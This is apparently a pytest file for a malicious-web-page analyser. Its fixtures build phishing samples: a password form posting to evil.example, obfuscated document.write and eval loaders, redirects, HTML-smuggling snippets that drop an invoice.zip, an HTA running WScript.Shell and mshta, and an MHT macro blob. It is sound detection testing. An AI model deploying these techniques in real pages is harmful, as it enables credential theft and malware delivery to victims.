"""Pages that come as files: forms, scripts, smuggled files, redirects, what scripts would write."""

from __future__ import annotations

import base64
import io
import random
import zipfile
import zlib
from urllib.parse import quote

import pytest

from sabaki.files import page
from sabaki.files.opened import Asked, Opened

URL = "https://evil.example/c.php"
LOGIN = f'<form action="{URL}" method="post"><input type="email" name="e"><input type="password" name="p"></form>'


def read(content: str | bytes, name: str = "a.html") -> Opened:
    return page.read(content.encode() if isinstance(content, str) else content, Asked(name))


def details(opened: Opened, id: str) -> list[str]:
    return [trait.detail for trait in opened.traits if trait.id == id]


def raws(opened: Opened, source: str = "") -> list[str]:
    return [link.raw for link in opened.links if source in link.source]


def coded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def archive(name: str = "invoice.js") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as box:
        box.writestr(name, "x" * 300)
    return buffer.getvalue()


def test_login_page() -> None:
    opened = read(
        f"<html><head><title>Webmail ログイン</title></head><body><p>Please sign in</p>{LOGIN}"
        "<script>var email = 'hanako@kaki.example'; document.forms[0].submit();</script>"
    )
    assert opened.title == "Webmail ログイン"
    assert "Please sign in" in opened.text
    assert "hanako@kaki.example" in opened.text
    assert details(opened, "form") == [URL]
    assert details(opened, "password_form") == [URL]
    assert details(opened, "script")[0].startswith("JavaScript: var email")
    assert details(opened, "redirect") == ["a form sends itself: document.forms[0].submit()"]
    assert raws(opened, "page:form") == [URL]


def test_harmless_page_has_no_traits() -> None:
    opened = read("<!DOCTYPE html><title>Minutes</title><p>See <a href='https://a.example/'>here</a><img src=x.png>")
    assert not opened.traits
    assert raws(opened, "page:a") == ["https://a.example/"]


@pytest.mark.parametrize(
    "written",
    [
        f"<script>document.write(unescape('{quote(LOGIN)}'))</script>",
        f"<script>document.write(atob('{coded(LOGIN)}'))</script>",
        f"<script>document.write(decodeURIComponent(escape(atob('{coded(LOGIN)}'))))</script>",
        f"<script>eval(atob('{coded('document.write(unescape(' + chr(39) + quote(LOGIN) + chr(39) + '))')}'))</script>",
        "<script>document.write(String.fromCharCode(" + ",".join(str(ord(c)) for c in LOGIN) + "))</script>",
        "<script>var _0x1a2b='" + "".join(f"\\x{ord(c):02x}" for c in LOGIN) + "';document.write(_0x1a2b)</script>",
        f"<svg xmlns='x' onload=\"document.write(atob('{coded(LOGIN)}'))\"></svg>",
        f"<a href=\"javascript:document.write(atob('{coded(LOGIN)}'))\">x</a>",
        f"<div id=d style='display:none'>{coded(LOGIN * 3)}</div><script>document.write(atob(d.innerText))</script>",
        f"<iframe src='data:text/html;base64,{coded(LOGIN)}'></iframe>",
        f"<iframe srcdoc='{LOGIN.replace(chr(34), '&quot;')}'></iframe>",
    ],
)
def test_a_form_that_is_written_is_found(written: str) -> None:
    opened = read(f"<html><body>{written}</body></html>")
    assert URL in raws(opened)
    assert details(opened, "password_form") == [URL]
    assert any(URL in markup for markup in opened.markup)


def test_unreadable_code_is_called_so() -> None:
    opened = read(f"<script>document.write(unescape('{quote(LOGIN)}'))</script>")
    assert "percent escapes" in details(opened, "obfuscated")
    opened = read(f"<script>eval(atob('{coded('location.href=' + repr(URL))}'))</script>")
    assert {"base64", "eval of decoded text"} <= set(details(opened, "obfuscated"))
    assert details(opened, "redirect") == [URL]
    assert URL in raws(opened, "page:decoded") + raws(opened, "page:redirect")


@pytest.mark.parametrize(
    "way",
    [
        f"<meta http-equiv=refresh content='0; url={URL}'>",
        f"<script>window.location.href = '{URL}';</script>",
        f'<script>location.replace("{URL}")</script>',
        f"<body onload=\"window.location='{URL}'\">",
        f"<script>top.location=('{URL}')</script>".replace("=(", "("),
        f"<script>window.open('{URL}', '_self')</script>",
    ],
)
def test_redirects(way: str) -> None:
    opened = read(f"<html>{way}</html>")
    assert URL in details(opened, "redirect")
    assert URL in raws(opened)


@pytest.mark.parametrize(
    "page_of",
    [
        lambda b: f"<script>var b=new Blob([bytes('{b}')]);a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script>",
        lambda b: f"<script>navigator.msSaveOrOpenBlob(new Blob([d('{b}')]), 'invoice.zip')</script>",
        lambda b: f"<a id=x href='data:application/octet-stream;base64,{b}' download='invoice.zip'>Download</a>",
        lambda b: "<script>var p=['" + "','".join(b[i : i + 90] for i in range(0, len(b), 90)) + "'].join('');"
        "l.download='invoice.zip';URL.createObjectURL(new Blob([p]))</script>",
        lambda b: "<script>var s='" + "';\ns+='".join(b[i : i + 90] for i in range(0, len(b), 90)) + "';"
        "l.download='invoice.zip';URL.createObjectURL(new Blob([s]))</script>",
        lambda b: f"<svg xmlns='x'><script type='text/ecmascript'><![CDATA[ l.setAttribute('download', 'invoice.zip'); f('{b}')]]></script></svg>",
        lambda b: f"<embed width=0 id=e src='data:application/zip;base64,{b}'><script>x.download='invoice.zip'</script>",
        lambda b: "<script>var u=new Uint8Array([" + ",".join(map(str, base64.b64decode(b))) + "]);"
        "l.download = 'invoice.zip';new Blob([u])</script>",
    ],
)  # fmt: skip
def test_smuggled_files_come_out(page_of) -> None:  # type: ignore[no-untyped-def]
    whole = archive()
    opened = read(f"<html><body>{page_of(coded(whole))}</body></html>")
    assert [(child.name, child.content) for child in opened.children] == [("invoice.zip", whole)]
    assert "holds zip" in details(opened, "smuggling")[0]


def test_html_application() -> None:
    opened = read(
        '<html><head><HTA:APPLICATION></head><script language=\'VBScript\'>CreateObject("WScript.Shell").Run "mshta x"</script>',
        "a.hta",
    )
    assert details(opened, "script")[0].startswith("VBScript")
    assert details(opened, "command")[0] == "runs as a program (HTA)"
    assert any("WScript.Shell" in command for command in details(opened, "command"))


def test_saved_page_with_macros_beside_it() -> None:
    macros = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    packed = b"ActiveMime" + b"\0" * 40 + zlib.compress(macros)
    content = (
        "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://evil.example/\r\nSubject: =?utf-8?B?44Ot44Kw44Kk44Oz?=\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
        "Content-Location: https://evil.example/\r\n\r\n" + LOGIN + "\r\n--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n" + coded(packed) + "\r\n--b--\r\n"
    )  # fmt: skip
    opened = read(content, "a.mht")
    assert opened.title == "ログイン"
    assert details(opened, "password_form") == [URL]
    assert [(child.name, child.content) for child in opened.children] == [("editdata.mso", macros)]
    assert details(opened, "macro") == ["ActiveMime: editdata.mso"]
    assert raws(opened, "page:saved_from") == ["https://evil.example/"]


def test_xml_with_what_it_loads() -> None:
    opened = read(
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/a.xsl'?>"
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'https://evil.example/e'>]><a/>",
        "a.xml",
    )
    assert set(details(opened, "external_link")) == {"https://evil.example/a.xsl", "https://evil.example/e"}
    opened = read('<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"><w:binData w:name="editdata.mso">'
                  + coded(b"ActiveMime" + b"\0" * 40 + zlib.compress(b"\xd0\xcf" * 40)) + "</w:binData></w:wordDocument>", "a.doc")  # fmt: skip
    assert details(opened, "macro") == ["Word XML with macros"]
    assert opened.children[0].content == b"\xd0\xcf" * 40


def test_charsets() -> None:
    for charset, label in (
        ("shift_jis", "Shift_JIS"),
        ("euc-jp", "euc-jp"),
        ("utf-16", ""),
        ("iso-2022-jp", "iso-2022-jp"),
    ):
        meta = f"<meta charset={label}>" if label else ""
        opened = read(f"<html>{meta}<title>口座の確認</title><p>パスワードを入力</p></html>".encode(charset))
        assert opened.title == "口座の確認"


def test_large_and_deep_pages_end() -> None:
    read("<div>" * 100_000)
    read("<script>" * 50_000)
    read("<a onclick=" * 50_000)
    read("<iframe srcdoc='" * 50_000)
    read("location=" * 50_000)


def test_never_raises_on_damage() -> None:
    dice = random.Random(6)
    whole = (
        f"<html><script>document.write(atob('{coded(LOGIN)}'));l.download='a.zip';f('{coded(archive())}')</script>{LOGIN}"
    ).encode()
    for end in range(0, len(whole), 41):
        read(whole[:end])
    for _ in range(100):
        broken = bytearray(whole)
        for _ in range(5):
            broken[dice.randrange(len(broken))] = dice.randrange(256)
        read(bytes(broken), dice.choice(("a.html", "a.hta", "a.svg", "a.mht", "a.xml")))
